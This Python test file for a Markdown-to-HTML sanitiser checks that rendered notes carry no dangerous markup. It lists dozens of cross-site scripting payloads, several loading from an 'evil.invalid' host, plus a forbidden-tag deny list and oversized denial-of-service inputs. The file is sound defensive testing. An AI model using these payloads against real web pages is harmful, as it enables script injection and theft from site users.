"""The allow-list between Markdown and the page: attack vectors go, the Markdown subset notes use stays.

Every fragment the render module produces is checked by parsing it as a browser
would (``html.parser``, entities decoded) for elements, handlers and URLs that
could run code or load something; the subset notes use is compared exactly.
"""
from __future__ import annotations

import random
import re
from html.parser import HTMLParser

import pytest

from conftest import SHARED
from papernotes.markdown import _brackets, _parens, inline_markdown, markdown_body, normalise_math, title_html
from papernotes.sanitise import MAX_DEPTH, limit_depth, sanitise_html, sanitise_inline

FORBIDDEN = {"script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "form", "button",
             "textarea", "select", "base", "meta", "link", "svg", "math", "template", "noscript", "video", "audio",
             "source", "body", "html", "head", "marquee", "xmp", "plaintext", "noembed", "isindex", "image"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "poster", "srcset", "xlink:href", "background",
                  "dynsrc", "lowsrc", "cite", "ping"}


class _Dangers(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in FORBIDDEN:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name in ("style", "srcdoc", "formaction", "autofocus"):
                if not (name == "style" and tag in ("th", "td") and re.fullmatch(r"text-align: ?\w+", value or "")):
                    self.found.append(f"{tag} {name}={value!r}")
            if name in URL_ATTRIBUTES and value is not None:
                url = re.sub(r"[\x00-\x20]", "", value).lower()
                scheme = re.match(r"^([a-z][a-z0-9+.-]*):", url)
                if scheme and scheme.group(1) not in ("http", "https", "mailto"):
                    self.found.append(f"{tag} {name}={value!r}")
                if name not in ("href", "src"):
                    self.found.append(f"{tag} {name}={value!r}")
            if name == "name" or (name == "id" and tag not in ("h1", "h2", "h3", "h4", "h5", "h6")
                                  and not (value or "").startswith("fn-")):
                self.found.append(f"{tag} {name}={value!r} (names a global)")
            if tag == "input" and name == "type" and value != "checkbox":
                self.found.append(f"input type={value!r}")
        if tag == "input" and "disabled" not in dict(attrs):
            self.found.append("enabled <input>")


def dangers(fragment: str) -> list[str]:
    parser = _Dangers()
    parser.feed(fragment)
    parser.close()
    return parser.found


VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.invalid/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<img src=x onerror="alert(1)">',
    "<img src=x onerror=alert(1)//>",
    '<img """><script>alert(1)</script>">',
    "<IMG SRC=javascript:alert('XSS')>",
    "<img src=`javascript:alert(1)`>",
    '<img src="jav&#x09;ascript:alert(1)">',
    '<img srcset="http://evil.invalid/x 1x">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></use></svg>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<details open ontoggle=alert(1)>x</details>',
    '<object data="http://evil.invalid/x.swf"></object>',
    '<embed src="http://evil.invalid/x.swf">',
    '<form action="http://evil.invalid"><button formaction="javascript:alert(1)">x</button></form>',
    '<input autofocus onfocus=alert(1)>',
    '<input type="image" src="http://evil.invalid/x.png">',
    '<input type="checkbox">',
    "<style>@import 'http://evil.invalid/x.css';</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</p>',
    '<link rel=stylesheet href="http://evil.invalid/x.css">',
    '<base href="http://evil.invalid/">',
    '<meta http-equiv="refresh" content="0;url=http://evil.invalid">',
    '<video poster="http://evil.invalid/p.png"><source onerror="alert(1)"></video>',
    '<body onload=alert(1)>',
    '<marquee onstart=alert(1)>x</marquee>',
    '<template><img src=x onerror=alert(1)></template>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="  javascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="VBScript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="DATA:text/html,<script>alert(1)</script>">x</a>',
    '<a href="#" onclick="alert(1)" onmouseover=alert(1)>x</a>',
    '<span class="math math-inline" onmouseover="alert(1)">\\(x\\)</span>',
    '<span style="color:red" class="evil">x</span>',
    '<!-- <img src=x onerror=alert(1)> -->',
    '<a href="http://x" target="_blank">x</a>',
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java%0Ascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox(1))",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[y][x]",
    '$</span><img src=x onerror=alert(1)>$',
    '$$<script>alert(1)</script>$$',
    "\\(</span><script>alert(1)</script>\\)",
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    '<code class="language-x" onclick=alert(1)>x</code>',
    '<code class="language-x evil">x</code>',
    '<div id="x" class="footnote-definition" style="display:none">x</div>',
    '<div id="__pwned">clobber</div><img name="__pwned" src="a.png"><a id="katex" name="katex">x</a>',
    '<h2 id="__pwned">x</h2>',
]


_RAW_TEXT = ("style", "script", "template", "noscript", "iframe", "xmp", "textarea", "title", "noembed")


@pytest.mark.parametrize("markdown", VECTORS, ids=[f"v{i}" for i in range(len(VECTORS))])
def test_no_vector_survives_in_bodies_summaries_or_titles(markdown: str) -> None:
    body = markdown_body("## Head\n\n" + markdown + "\n\nafter").html
    assert dangers(body) == [], body
    lower = markdown.lower()
    if not any(f"<{t}" in lower and f"</{t}" not in lower for t in _RAW_TEXT):
        assert "after" in body  # nothing swallows the rest of the note (as an unclosed <style> would in a browser)
    assert dangers(inline_markdown(markdown.replace("\n", " "))) == []
    assert dangers(title_html(markdown.replace("\n", " "))) == []
    assert dangers(sanitise_inline(markdown)) == [] and dangers(sanitise_html(markdown)) == []


def test_the_markdown_subset_survives_exactly() -> None:
    md = """## Head *em*

| left | centre | right |
|:--|:-:|--:|
| a | $x^2 < y$ | 1 |

```python
print("<b>")
```

- [x] done
- [ ] open

Term
: Definition

Foo[^n] H<sub>2</sub>O x<sup>2</sup> <mark>m</mark> <kbd>K</kbd> ~~gone~~

[^n]: Note.

![alt](fig/a.png "t") ![web](https://example.org/a.png)
[web](https://example.org/?a=1&b=2) [mail](mailto:a@example.org) [rel](../x.md#y) [anchor](#head_em) [root](/ICML2024/)

$$
\\sum_i x_i \\le 1
$$

<details><summary>S</summary>hidden</details>
"""
    out = markdown_body(md).html
    for fragment in (
        '<h2 id="head_em">Head <em>em</em><a class="headerlink" href="#head_em" title="Permanent link">¶</a></h2>',
        '<th class="word" style="text-align: left">left</th><th class="word" style="text-align: center">centre</th>',
        '<td style="text-align: center"><span class="math math-inline">\\(x^2 &lt; y\\)</span></td>',
        '<pre><code class="language-python">print("&lt;b&gt;")\n</code></pre>',
        '<input type="checkbox" checked="" disabled="">', '<input type="checkbox" disabled="">',
        "<dl>\n<dt>Term</dt>\n<dd>Definition</dd>\n</dl>",
        '<sup class="footnote-reference"><a href="#fn-n">1</a></sup>',
        '<div class="footnote-definition" id="fn-n"><sup class="footnote-definition-label">1</sup>',
        "H<sub>2</sub>O x<sup>2</sup> <mark>m</mark> <kbd>K</kbd> <del>gone</del>",
        '<img src="fig/a.png" alt="alt" title="t">', '<img src="https://example.org/a.png" alt="web">',
        '<a href="https://example.org/?a=1&amp;b=2">web</a>', '<a href="mailto:a@example.org">mail</a>',
        '<a href="../x.md#y">rel</a>', '<a href="#head_em">anchor</a>', '<a href="/ICML2024/">root</a>',
        '<span class="math math-display">\\[\n\\sum_i x_i \\le 1\n\\]</span>',
        "<details><summary>S</summary>hidden</details>",
        '<div class="table-wrap"><table>',
    ):
        assert fragment in out, fragment
    assert dangers(out) == []


PIECES = [
    "# H", "## Head *em*", "text **b** _i_ `c` ~~d~~", "$x^2<y$", "$$\n\\sum_i x_i\n$$", "> quote", "- [x] t\n- [ ] u",
    "1. a\n2. b", "3) c", "| a | b |\n|:-|-:|\n| 1 | 2 |", "Term\n: Def", "x[^n]\n\n[^n]: note", "[^a b]: y",
    "```python onclick=x\nprint(1)\n```", "```\nplain\n```", "![alt](fig/a.png \"t\")", "[web](https://a.org/?q=1&x=2)",
    "[mail](mailto:a@b.org)", "[rel](../x.md#y)", "[top](#head_em)", "[js](javascript:alert(1))", "[js2](JaVaScRiPt:x)",
    "[ent](&#106;avascript:x)", "[pct](java%0Ascript:x)", "[data](data:text/html,x)", "![img](javascript:x)",
    "[ref][r]\n\n[r]: vbscript:x", "a &lt;script&gt; b", "he said \"x=\\\"y\\\"\" ok", "---", "line  \nbreak",
]


def test_engine_output_is_checked_instead_of_reparsed_and_agrees_with_nh3() -> None:
    """Bodies without raw HTML skip nh3 when the engine's output passes the same allow-list; either way the
    result is clean and shows the same text as nh3's."""
    import pyromark

    from papernotes.markdown import MARKDOWN_OPTIONS, _wrap_math

    def text_of(fragment: str) -> str:
        import html as html_module
        return re.sub(r"\s+", "", html_module.unescape(re.sub(r"<[^>]+>", "", fragment)))

    rng = random.Random(3)
    fast = 0
    for _ in range(3000):
        doc = "\n\n".join(rng.choice(PIECES) for _ in range(rng.randint(1, 6)))
        out = markdown_body(doc, drop_title=False).html
        assert dangers(out) == [], (doc, out)
        engine = _wrap_math(pyromark.html(normalise_math(doc), options=MARKDOWN_OPTIONS))
        shown = re.sub(r'<a class="headerlink"[^>]*>¶</a>', "", out)  # added after sanitising
        assert text_of(shown) == text_of(sanitise_html(engine)), doc
        fast += " />" in out or "/>" in out  # the engine's serialisation: nh3 was not run
    assert fast > 300
    out = markdown_body("![a](x.png) and [x](javascript:alert(1))").html
    assert "javascript" not in out and "/>" not in out  # refused by the check, cleaned by nh3


def test_inline_fragments_keep_their_markdown_and_show_raw_html_as_text() -> None:
    out = inline_markdown("**b** *i* `c` $x<y$ [web](https://a.org) [rel](x.md) [js](javascript:alert(1)) "
                          "<b>raw</b> <img src=x onerror=alert(1)>")
    assert out.startswith("<strong>b</strong> <em>i</em> <code>c</code> "
                          '<span class="math math-inline">\\(x&lt;y\\)</span> <a href="https://a.org">web</a> rel js ')
    assert "&lt;b&gt;raw" in out and "&lt;img src=x onerror=alert(1)&gt;" in out
    assert title_html("$a<b$ & <i>t</i>") == '<span class="math math-inline">\\(a&lt;b\\)</span> &amp; &lt;i&gt;t&lt;/i&gt;'


def test_placeholders_in_prose_keep_the_text_after_them() -> None:
    out = markdown_body('- the scene ("<object A> drifts above <object B>") is coarse\n- next item\n').html
    assert "drifts above" in out and "next item" in out and "<object" not in out


def test_nul_bytes_never_reach_the_html() -> None:
    for out in (markdown_body("a\0b").html, inline_markdown("a\0b"), title_html("a\0b")):
        assert "\0" not in out and "a\ufffdb" in out


# ------------------------------------------------------------------ bounded work on hostile sizes


_OLD_PAREN = re.compile(r"\\\((?![\s\u4e00-\u9fff])([^\u4e00-\u9fff\n]{1,300}?)\\\)")
_OLD_BRACKET = re.compile(r"\\\[((?:(?!\\\]).){1,2000}?)\\\]", re.S)


def _old_display(m: re.Match[str]) -> str:
    tex = m.group(1)
    return f"$${tex}$$" if re.search(r"[\\^_={}]", tex) and not re.search(r"[\u4e00-\u9fff]", tex) else m.group(0)


def test_linear_math_delimiters_give_what_the_old_regexes_gave() -> None:
    """The regexes they replace (quadratic on unclosed delimiters) are the specification."""
    rng = random.Random(9)
    alphabet = ["\\(", "\\)", "\\[", "\\]", "\\", "(", ")", "a", "^", " ", "\n", "中", "x_1", "{"]
    for _ in range(20_000):
        text = "".join(rng.choice(alphabet) for _ in range(rng.randint(0, 24)))
        old = _OLD_BRACKET.sub(_old_display, _OLD_PAREN.sub(lambda m: f"${m.group(1)}$", text))
        assert _brackets(_parens(text)) == old, repr(text)
    for _ in range(500):
        text = "".join(rng.choice(["\\(", "\\)", "\\[", "\\]", "a" * rng.randint(1, 2100), "\n", "^"])
                       for _ in range(rng.randint(0, 12)))
        old = _OLD_BRACKET.sub(_old_display, _OLD_PAREN.sub(lambda m: f"${m.group(1)}$", text))
        assert _brackets(_parens(text)) == old


HUGE = {
    "unclosed display delimiters": "\\[" * 500_000,
    "unclosed inline delimiters": "\\(a" * 330_000,
    "one closing after many openings": "\\[ a " * 100_000 + "\\]",
    "50k-term formula": "$$" + "+".join(f"x_{{{i}}}^2" for i in range(50_000)) + "$$",
    "a megabyte of dollars": "$" * 1_000_000,
    "nested details": "<details><summary>" * 60_000,
    "nested divs": "<div>" * 200_000,
    "nested quotes": "> " * 200_000 + "x",
}


@pytest.mark.timeout(60)
@pytest.mark.parametrize("name", HUGE)
def test_hostile_sizes_render_in_linear_time(name: str) -> None:
    """Each took from 40 s to many minutes before (quadratic); now well under a second or two. The
    generous timeout only catches a return to quadratic work, it measures nothing."""
    text = HUGE[name]
    normalise_math(text)
    out = markdown_body(text).html
    assert dangers(out[:200_000]) == []
    inline_markdown(text[:300_000])


def test_depth_beyond_the_limit_becomes_text() -> None:
    deep = "<div>" * 5000 + "x" + "</div>" * 5000
    limited = limit_depth(deep)
    assert limited.count("<div>") == MAX_DEPTH and limited.count("&lt;div>") == 5000 - MAX_DEPTH
    shallow = "<p>x</p>" * 3000
    assert limit_depth(shallow) == shallow


# ------------------------------------------------------------------ the reference notes lose no text

REFERENCE = SHARED / "corpus" / "paper-notes" / "docs"


@pytest.mark.skipif(not REFERENCE.is_dir(), reason="reference snapshot not available")
def test_every_reference_note_keeps_its_text_through_the_sanitiser() -> None:
    from papernotes.corpus.frontmatter import split_front_matter

    def text_of(fragment: str) -> str:
        return re.sub(r"\s+", "", re.sub(r"<[^>]+>", "", fragment)).replace("&quot;", '"').replace("&#39;", "'")

    changed = []
    for path in sorted(REFERENCE.glob("*/*/*.md")):
        _, body, _ = split_front_matter(path.read_text(encoding="utf-8"))
        trusted, cleaned = markdown_body(body, trusted=True).html, markdown_body(body).html
        if text_of(trusted) != text_of(cleaned):
            changed.append(path.name)
        assert dangers(cleaned) == [], path
    assert changed == []
